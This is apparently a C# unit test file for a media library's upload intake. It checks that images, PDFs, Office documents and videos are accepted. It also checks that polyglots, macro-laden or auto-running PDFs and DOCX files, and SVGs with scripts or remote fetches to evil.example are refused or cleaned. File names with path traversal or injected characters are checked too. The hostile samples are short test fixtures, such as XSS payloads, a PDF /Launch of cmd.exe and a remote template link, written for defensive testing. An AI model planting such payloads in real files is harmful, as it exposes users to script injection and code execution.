using System.Text;
using Fori.MediaLibrary.Intake;
using Fori.Store;
using Fori.Tests.Testing;
using SkiaSharp;

namespace Fori.Tests.MediaLibrary;

/// <summary>What is taken into the library, and what is refused; nothing refused leaves a file.</summary>
public sealed class FileIntakeTests : IDisposable
{
    private readonly DataFolder _folder = new();
    private readonly FileIntake _intake = new(new IntakeLimits(Pixels: 4_000_000));

    public void Dispose()
    {
        _intake.Dispose();
        _folder.Dispose();
    }

    public static TheoryData<string, byte[], string> Sound => new()
    {
        { "kuva.jpg", SampleFiles.Jpeg(), "image/jpeg" },
        { "KUVA.JPEG", SampleFiles.Jpeg(), "image/jpeg" },
        { "kuva.png", SampleFiles.Png(), "image/png" },
        { "kuva.webp", SampleFiles.Picture(80, 60, SKEncodedImageFormat.Webp), "image/webp" },
        { "kartta.svg", SampleFiles.Svg("<path d=\"M0 0h9\"/>"), "image/svg+xml" },
        { "ohje.pdf", SampleFiles.Pdf(), "application/pdf" },
        { "ohje.pdf", SampleFiles.PdfWithObjects("12 0 << /Type /Page >>"), "application/pdf" },
        { "ohje.docx", SampleFiles.Docx(), FileKinds.Docx.MediaType },
        { "taulukko.xlsx", SampleFiles.Zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<w/>")), FileKinds.Xlsx.MediaType },
        { "ohje.odt", SampleFiles.Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<x/>")), FileKinds.Odt.MediaType },
        { "video.mp4", SampleFiles.Mp4(), "video/mp4" },
        { "video.vtt", SampleFiles.Vtt(), "text/vtt" },
    };

    public static TheoryData<string, byte[], string> Refused => new()
    {
        { "tyhja.png", [], "file.empty" },
        { "ohjelma.exe", "MZ\x90\0"u8.ToArray(), "file.kind-unknown" },
        { "sivu.html", "<html><script>alert(1)</script></html>"u8.ToArray(), "file.kind-unknown" },
        { "arkisto.zip", SampleFiles.Zip(("a.txt", "a")), "file.kind-unknown" },
        { "kuva.png", SampleFiles.Jpeg(), "file.name-mismatch" },
        { "kuva.jpg.exe", SampleFiles.Jpeg(), "file.name-mismatch" },
        { "ohje.pdf", SampleFiles.Docx(), "file.name-mismatch" },
        { "pommi.png", SampleFiles.Bomb(), "file.image-too-large" },
        { "suuri.png", SampleFiles.Png(2_500, 2_000), "file.image-too-large" },
        { "kesken.jpg", SampleFiles.Jpeg()[..2_000], "file.damaged" },
        { "kesken.png", SampleFiles.Png()[..1_000], "file.damaged" },
        { "kesken.mp4", SampleFiles.Mp4()[..^10], "file.damaged" },
        { "kesken.pdf", SampleFiles.Pdf()[..^8], "file.damaged" },
        { "kesken.docx", SampleFiles.Docx()[..^12], "file.kind-unknown" },
        { "kuva.jpg", [.. SampleFiles.Jpeg(), .. SampleFiles.Zip(("META-INF/MANIFEST.MF", "x"))], "file.two-kinds" },
        { "ohje.pdf", [.. SampleFiles.Pdf(), .. SampleFiles.Zip(("a.txt", "x"))], "file.two-kinds" },
        { "kuva.gif", Encoding.Latin1.GetBytes("GIF89a/*<script>alert(1)</script>*/"), "file.two-kinds" },
        { "ohje.pdf", SampleFiles.Pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "file.pdf-active" },
        { "ohje.pdf", SampleFiles.Pdf("/OpenAction << /S /J#61vaScript >>"), "file.pdf-active" },
        { "ohje.pdf", SampleFiles.Pdf("/AA << /O << /S /Launch /F (cmd.exe) >> >>"), "file.pdf-active" },
        { "ohje.pdf", SampleFiles.Pdf("/Names << /EmbeddedFiles 4 0 R >>"), "file.pdf-active" },
        { "ohje.pdf", SampleFiles.PdfWithObjects("12 0 << /S /JavaScript /JS (x) >>"), "file.pdf-active" },
        { "ohje.pdf", SampleFiles.Pdf("/Encrypt 9 0 R"), "file.pdf-locked" },
        { "ohje.pdf", SampleFiles.Pdf("/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]"), "file.pdf-locked" },
        { "ohje.docx", SampleFiles.Docx(("word/vbaProject.bin", "x")), "file.macros" },
        { "ohje.docx", SampleFiles.Docx(("word/embeddings/oleObject1.bin", "x")), "file.macros" },
        { "ohje.docx", SampleFiles.Docx(("word/_rels/settings.xml.rels", "<R Type=\"x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>")), "file.macros" },
        { "kartta.svg", Encoding.UTF8.GetBytes("<!DOCTYPE svg [<!ENTITY a \"aa\">]><svg xmlns=\"http://www.w3.org/2000/svg\">&a;</svg>"), "file.svg-refused" },
        { "kartta.svg", Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\">" + string.Concat(Enumerable.Repeat("<g>", 500)) + string.Concat(Enumerable.Repeat("</g>", 500)) + "</svg>"), "file.svg-refused" },
        { "kartta.svg", Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><g>"), "file.damaged" },
        { "video.vtt", "WEBVTT\n\xFF\xFE --> "u8.ToArray()[..8], "file.damaged" },
    };

    [Theory]
    [MemberData(nameof(Sound))]
    public async Task A_sound_file_is_taken_as_what_it_is(string name, byte[] content, string mediaType)
    {
        var taken = await CheckAsync(name, content);

        taken.Succeeded.ShouldBeTrue(taken.Succeeded ? "" : taken.Problems[0].Code);
        taken.Value.Kind.MediaType.ShouldBe(mediaType);
    }

    [Theory]
    [MemberData(nameof(Refused))]
    public async Task Anything_else_is_refused_with_the_reason(string name, byte[] content, string code) =>
        (await CheckAsync(name, content)).Problems.ShouldHaveSingleItem().Code.ShouldBe(code);

    [Fact]
    public async Task A_photograph_tells_nothing_of_its_place_and_stands_upright()
    {
        var taken = (await CheckAsync("kuva.jpg", SampleFiles.JpegWithExif(60, 40, orientation: 6))).Value!;

        (taken.Width, taken.Height).ShouldBe((40, 60));
        var bytes = await File.ReadAllBytesAsync(taken.CleanPath, TestContext.Current.CancellationToken);
        bytes.AsSpan().IndexOf("Exif"u8).ShouldBe(-1);
        Encoding.Latin1.GetString(bytes).ShouldNotContain(SampleFiles.Location);
        using var picture = SKBitmap.Decode(taken.CleanPath);
        (picture.GetPixel(20, 5).Red > 200, picture.GetPixel(20, 55).Blue > 200).ShouldBe((true, true)); // Turned by 90°, left became top.
    }

    [Theory]
    [InlineData("<script>alert(1)</script>", "script")]
    [InlineData("<rect onclick=\"alert(1)\" width=\"1\"/>", "onclick")]
    [InlineData("<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"/></foreignObject>", "foreignObject")]
    [InlineData("<image href=\"http://evil.example/x.png\"/>", "evil")]
    [InlineData("<use xlink:href=\"http://evil.example/x.svg#a\"/>", "evil")]
    [InlineData("<a href=\"javascript:alert(1)\"><text>x</text></a>", "javascript")]
    [InlineData("<style>@import url(http://evil.example)</style>", "evil")]
    [InlineData("<rect fill=\"url(http://evil.example/x)\"/>", "evil")]
    [InlineData("<rect style=\"background:u\\72l(http://evil.example)\"/>", "evil")]
    [InlineData("<set attributeName=\"href\" to=\"javascript:alert(1)\"/>", "javascript")]
    [InlineData("<x:script xmlns:x=\"http://www.w3.org/2000/svg\">alert(1)</x:script>", "script")]
    public async Task A_drawing_keeps_what_draws_and_loses_what_acts_or_fetches(string hostile, string trace)
    {
        var taken = (await CheckAsync("kartta.svg", SampleFiles.Svg(hostile + "<path d=\"M0 0h9\" fill=\"url(#a)\"/>", "onload=\"alert(1)\""))).Value!;

        var clean = await File.ReadAllTextAsync(taken.CleanPath, TestContext.Current.CancellationToken);
        clean.ShouldNotContain(trace);
        clean.ShouldNotContain("onload");
        clean.ShouldContain("fill=\"url(#a)\"");
        (taken.Width, taken.Height).ShouldBe((40, 20));
    }

    [Theory]
    [InlineData("../../etc/passwd.png", "passwd.png")]
    [InlineData("C:\\kuvat\\ranta.png", "ranta.png")]
    [InlineData("ranta\u202Egnp.png", "rantagnp.png")]
    [InlineData("a\"b;c\r\n.png", "abc.png")]
    [InlineData(".png", "file.png")]
    public void A_name_is_only_a_name(string sent, string kept) => FileIntake.Named(sent).ShouldBe(kept);

    private async Task<Outcome<CheckedFile>> CheckAsync(string name, byte[] content)
    {
        var path = _folder["sent-" + Guid.NewGuid().ToString("N")];
        await File.WriteAllBytesAsync(path, content, TestContext.Current.CancellationToken);
        return await _intake.CheckAsync(path, name, () => _folder["clean-" + Guid.NewGuid().ToString("N")], TestContext.Current.CancellationToken);
    }
}
